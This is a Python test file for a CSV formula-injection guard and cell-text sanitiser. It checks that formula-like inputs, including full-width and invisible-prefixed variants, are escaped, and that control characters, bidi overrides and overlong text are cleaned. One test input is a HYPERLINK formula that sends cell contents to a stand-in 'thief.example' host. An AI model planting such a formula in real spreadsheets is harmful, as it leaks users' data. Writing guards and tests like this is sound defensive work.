"""What strangers write does no harm in a cell."""

from __future__ import annotations

import pytest

from screens.sheets import cells
from screens.sheets.csvfile import guarded


@pytest.mark.parametrize(
    "given",
    [
        "=1+1",
        "+7 707 123 45 67",
        "-5",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "﹦1+1",
        "'=1+1",
        '"=1+1"',
        "=HYPERLINK(\"https://thief.example/\"&A1;'x')",
    ],
)
def test_what_looks_like_a_formula_is_guarded(given: str) -> None:
    assert guarded(given).startswith("'")
    assert guarded(given)[1:] == cells.text(given)


@pytest.mark.parametrize("given", ["Coffee", "Кофе = вкусно", "5 - 3", "#1042", "•• 9821", "(1)", ""])
def test_what_does_not_is_left_alone(given: str) -> None:
    assert guarded(given) == given


@pytest.mark.parametrize(
    ("given", "seen"),
    [
        ("a\x00b\x1fc\x7fd\x9fe", "abcde"),
        ("a\ud800b\ufffec\uffff", "abc"),
        ("one\r\ntwo\tthree", "one two three"),
        ("\u202eevil\u202c \u2066x\u2069", "evil x"),
        ("  Қазақша 🧑‍🍳  ", "Қазақша 🧑‍🍳"),
    ],
)
def test_what_no_sheet_can_hold_is_taken_out(given: str, seen: str) -> None:
    assert cells.text(given) == seen


def test_a_text_is_as_long_as_a_cell_and_no_character_is_halved() -> None:
    assert cells.text("я" * 32_767) == "я" * 32_767
    assert cells.text("я" * 32_768) == "я" * 32_766 + "…"
    cut = cells.text("😀" * 20_000)
    assert len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert cut == "😀" * 16_383 + "…"
